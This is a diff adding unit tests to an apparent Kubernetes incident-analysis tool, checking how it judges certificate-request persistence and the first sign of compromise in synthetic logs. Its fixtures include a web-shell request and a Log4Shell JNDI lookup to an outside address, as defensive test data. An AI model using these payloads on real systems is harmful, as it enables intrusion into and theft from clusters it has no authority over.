@@ -63,6 +63,54 @@ HOOK = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhoo
                     "resources": ["*"]}]}]}
 
 
+class Certificate(Reach):
+    """A request for a certificate is approved and deleted: the certificate goes on."""
+
+    def remains(self, approval):
+        c = Case("certificate", "2026-01-20")
+        csr = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
+               "metadata": {"name": "x9"}, "spec": {"signerName": "kubernetes.io/kube-apiserver-client"}}
+        group = {"group": "certificates.k8s.io"}
+        c.request(600, WEB, "create", "certificatesigningrequests x9", 201, body=csr, **group, **STOLEN)
+        if approval:
+            c.request(610, WEB, "update", "certificatesigningrequests/approval x9", **group, **STOLEN,
+                      body={**csr, "status": {"conditions": [{"type": approval}]}})
+        c.request(900, "lee", "delete", "certificatesigningrequests x9", source="10.1.1.8", **group)
+        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
+        return {r["object"]: r["reverted"] for r in self.documents["containment"]["remains"]}
+
+    def test_only_what_was_not_signed_is_taken_back(self):
+        self.assertEqual(self.remains("Approved"), {"x9": False})
+        self.assertEqual(self.remains("Denied"), {"x9": True})
+        self.assertEqual(self.remains(None), {"x9": True})
+
+
+class FirstSign(Reach):
+    def story(self, *requests, at=1300, line="POST /uploads/s.php?c=id HTTP/1.1"):
+        c = Case("sign", "2026-01-20")
+        for time, verb, target in requests:
+            c.request(time, WEB, verb, target, agent="kubectl/v1.30.1", source="10.8.2.9",
+                      groups=INSIDE)
+        log = "".join(f"{c.time(t, 9)} stdout F {text}\n" for t, text in (
+            (0, "GET / 200"), (at, line)))
+        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
+                      "web.log": log})
+        return self.documents["story"]["first_sign"][11:19]
+
+    def test_a_web_shell_that_a_rule_knows(self):
+        self.assertEqual(self.story((1330, "list", "secrets")), "10:21:40")
+
+    def test_a_grave_request_long_before_the_line_counts(self):
+        self.assertEqual(self.story((300, "create", "nodes/proxy n1")), "10:05:00")
+
+    def test_others_are_their_own_matter(self):
+        self.assertEqual(self.story((300, "create", "selfsubjectrulesreviews")), "10:21:40")
+
+    def test_a_scanners_line_of_the_day_before_does_not(self):
+        self.assertEqual(self.story((5000, "create", "nodes/proxy n1"), at=100,
+                                    line="GET /?x=${jndi:ldap://198.51.100.9/a} 404"), "11:23:20")
+
+
 class Debugger(Reach):
     """Somebody puts a container into the pod, attaches to it, and changes admission."""
 
